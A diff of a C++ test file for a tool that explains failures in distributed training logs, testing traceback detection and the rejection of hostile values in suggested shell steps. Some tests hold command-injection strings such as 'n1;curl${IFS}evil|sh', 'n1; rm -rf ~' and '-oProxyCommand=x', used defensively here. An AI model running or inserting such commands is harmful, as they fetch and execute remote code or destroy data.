@@ -30,7 +30,7 @@ TEST(Explanation, OfAnExceptionNamesTheUsersOwnCode) {
             "  your code  train.py:57, in load_shard\n"
             "  seen in    log:6: ValueError: no shard 19\n"
             "\n"
-            "Confidence: high; nothing else in the log could be the cause.\n");
+            "Confidence: high; the log shows no other known cause.\n");
 }
 
 TEST(Explanation, OfTheSameExceptionOnManyRanksIsOne) {
@@ -63,7 +63,77 @@ TEST(Explanation, OfAChainNamesItsLastExceptionAndTheFirst) {
                 traceback("", "RuntimeError: bad settings"));
   ASSERT_EQ(found.causes.size(), 1u);
   EXPECT_EQ(found.causes[0].text, "RuntimeError: bad settings");
-  EXPECT_EQ(found.causes[0].exception->exception.before, "KeyError: 'lr'");
+  EXPECT_EQ(headline(*found.causes[0].exception->exception.first), "KeyError: 'lr'");
+}
+
+TEST(Explanation, OfAConsequenceInAChainNamesTheExceptionThatItHides) {
+  const Explanation found = explained(
+      traceback("", "ValueError: no shard 19") +
+      "\nDuring handling of the above exception, another exception occurred:\n\n" +
+      traceback("",
+                "RuntimeError: [/pytorch/third_party/gloo/gloo/transport/tcp/pair.cc:547] "
+                "Connection closed by peer [198.18.1.2]:33218"));
+  ASSERT_EQ(found.causes.size(), 1u);
+  EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
+  EXPECT_EQ(found.consequences.size(), 1u);
+}
+
+// A progress bar is redrawn many times on the line on which the traceback begins.
+TEST(Explanation, FindsATracebackBehindAProgressBar) {
+  std::string bar;
+  for (int i = 0; i < 2000; ++i) bar += "\r 50%|#####     | " + std::to_string(i) + "/4000 [00:12]";
+  const std::string rest =
+      "[n1:3]   File \"train.py\", line 57, in load_shard\n[n1:3] ValueError: no shard 19\n";
+  const Explanation found =
+      explained("[n1:3] " + bar + "Traceback (most recent call last):\n" + rest);
+  ASSERT_EQ(found.causes.size(), 1u);
+  EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
+  EXPECT_EQ(found.causes[0].ranks, std::vector<int>{3});
+  EXPECT_EQ(found.causes[0].exception->exception.frame.line, 57);
+}
+
+TEST(Explanation, OfATracebackBehindATimeOnEachLine) {
+  const Explanation found = explained(
+      "2026-11-18 10:00:00,123 ERROR Traceback (most recent call last):\n"
+      "2026-11-18 10:00:00,124 ERROR   File \"train.py\", line 57, in load_shard\n"
+      "2026-11-18 10:00:00,125 ERROR ValueError: no shard 19\n");
+  ASSERT_EQ(found.causes.size(), 1u);
+  EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
+}
+
+TEST(Explanation, OfATracebackThatWasCutOffTakesNoOtherLineForItsEnd) {
+  const std::string cut =
+      "Traceback (most recent call last):\n  File \"train.py\", line 57, in load_shard\n";
+  for (const char* const after : {"epoch: 5\n", "INFO: x\n", "done\n", "WARNING: slow\n"}) {
+    EXPECT_TRUE(explained(cut + after).causes.empty()) << after;
+  }
+  Scan scan(whole_matcher());
+  scan.begin("err");
+  scan.take(cut);
+  scan.begin("out");
+  scan.take("Finished: all\n");
+  EXPECT_TRUE(explain(scan.finish()).causes.empty());
+}
+
+TEST(Explanation, OfALaunchersOwnTracebackIsAConsequence) {
+  const Explanation found = explained(
+      traceback("", "ValueError: no shard 19") +
+      "Traceback (most recent call last):\n"
+      "  File \"/opt/conda/bin/accelerate\", line 8, in <module>\n    sys.exit(main())\n"
+      "  File \"/opt/conda/lib/python3.11/site-packages/accelerate/x.py\", line 9, in main\n"
+      "subprocess.CalledProcessError: Command '['python', 'train.py']' returned non-zero exit "
+      "status 1.\n");
+  ASSERT_FALSE(found.causes.empty());
+  EXPECT_EQ(found.causes.front().text, "ValueError: no shard 19");
+  EXPECT_EQ(found.confidence, Confidence::kHigh);
+}
+
+TEST(Explanation, OfNoiseBeforeTheJobIsNotSure) {
+  const std::string noise = "bash: line 1: conda: command not found\n";
+  EXPECT_EQ(explained(noise).confidence, Confidence::kHigh);
+  EXPECT_EQ(explained(noise + "the frobnicator failed\n").confidence, Confidence::kMedium);
+  const Explanation found = explained(noise + traceback("", "ValueError: x"));
+  EXPECT_EQ(found.causes.front().text, "ValueError: x");
 }
 
 TEST(Explanation, PutsTheCauseBeforeWhatFollowedFromIt) {
@@ -145,18 +215,41 @@ TEST(Scan, SurvivesGarbageAndLinesWithoutAnEnd) {
   EXPECT_EQ(found.causes.front().text, "ValueError: x");
 }
 
-TEST(Filled, TakesNoHostileValueIntoAStep) {
-  EXPECT_EQ(filled("ask {user} about {path}", {{"user", "a b"}}), "ask a b about PATH");
-  EXPECT_EQ(filled_step("$ ssh {host} true {{}}", {{"host", "n1"}}), "$ ssh n1 true {}");
-  for (const char* const step : {"$ ssh {host} true", "Leave it out: ssh {host} true"}) {
-    const std::string without = filled_step(step, {});
-    EXPECT_EQ(filled_step(step, {{"host", "n1; rm -rf ~"}}), without);
-    EXPECT_EQ(filled_step(step, {{"host", "n1;curl${IFS}evil|sh"}}), without);
-    EXPECT_EQ(filled_step(step, {{"host", "-oProxyCommand=x"}}), without);
-  }
+TEST(Filled, ShowsWhatHasNoValueInCapitals) {
+  EXPECT_EQ(filled("ask {user} about {path} {{}}", {{"user", "a b"}}), "ask a b about PATH {}");
+}
+
+TEST(Explanation, LetsNoHostileValueIntoAStep) {
+  const auto step_values = [](const std::string& host, const RunKnowledge& run = {}) {
+    const Explanation found =
+        explained("ssh: connect to host " + host + " port 22: Connection refused\n", run);
+    return found.causes.empty() ? std::map<std::string, std::string>{}
+                                : found.causes.front().step_values;
+  };
+  EXPECT_EQ(step_values("n1").at("host"), "n1");
+  EXPECT_FALSE(step_values("n1;curl${IFS}evil|sh").contains("host"));
+  EXPECT_FALSE(step_values("-oProxyCommand=x").contains("host"));
+  EXPECT_EQ(step_values("n1", {.hosts = {"n1", "n2"}}).at("host"), "n1");
+  EXPECT_FALSE(step_values("evil.example.org", {.hosts = {"n1", "n2"}}).contains("host"));
 }
 
 // The whole way, from a hostile log to what is shown.
+TEST(Scan, OfManyOriginsNeedsLittleMemory) {
+  Scan scan(whole_matcher());
+  scan.begin("log");
+  constexpr int kOrigins = 30'000;
+  for (int i = 0; i < kOrigins; ++i) {
+    const std::string label = "[host" + std::to_string(i) + ":1] ";
+    scan.take(label + "Traceback (most recent call last):\n" + label + "  File \"a.py\", line 1\n" +
+              label + "ValueError: " + std::to_string(i) + "\n" + label +
+              "During handling of the above exception, another exception occurred:\n");
+  }
+  scan.take(traceback("", "TypeError: the last one"));
+  const Evidence found = scan.finish();
+  EXPECT_LE(found.exceptions.size(), 512u);
+  EXPECT_EQ(found.exceptions.back().exception.message, "the last one");
+}
+
 TEST(Filled, ShowsNoCommandOfALog) {
   const std::string shown = full_text(
       explained("mpirun noticed that process rank 1 with PID 5 on node n1;curl${IFS}evil|sh exited "
